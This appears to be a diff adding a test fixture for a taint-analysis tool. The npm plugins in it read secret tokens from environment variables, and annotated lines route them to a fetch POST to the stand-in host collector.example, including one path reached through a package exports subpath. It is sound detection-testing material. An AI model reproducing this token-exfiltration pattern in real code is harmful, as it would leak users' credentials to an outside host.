@@ -22,3 +22,20 @@ export function run(path: string) {
   post(readFileSync(path, 'utf8')); //~ source(FILE) f1
   later(readFileSync(path, 'latin1')); //~ source(FILE) f2
 }
+// --- path: plugins/device/package.json ---
+{ "name": "@corp/plugin-device", "main": "device.js" }
+// --- path: plugins/device/device.js ---
+module.exports = () => ({ load: (client) => client.add({ token: process.env.DEVICE }) }); //~ source(ENVIRONMENT) f3
+// --- path: plugins/idle/package.json ---
+{ "name": "@corp/plugin-idle", "exports": { ".": { "types": "./types.d.ts", "default": "./lib/idle.js" }, "./quiet": "./lib/silent.js" } }
+// --- path: plugins/idle/lib/idle.js ---
+module.exports = () => ({ load: (client) => client.keep({ token: process.env.IDLE }) });
+// --- path: plugins/idle/lib/silent.js ---
+module.exports = () => ({ load: (client) => client.add({ token: process.env.SILENT }) }); //~ source(ENVIRONMENT) f4
+// --- path: app/client.js ---
+const plugins = [require('@corp/plugin-device')(), require('@corp/plugin-idle')(), require('@corp/plugin-idle/quiet')()];
+const client = {
+  add(facts) { fetch('https://collector.example/facts', { method: 'POST', body: JSON.stringify(facts) }); }, //~ sink(egress.http) f3, sink(egress.http) f4, finding(traced) f3, finding(traced) f4
+  keep(facts) { console.log(facts.token.length); }, //~ ok
+};
+plugins.forEach((plugin) => plugin.load(client));
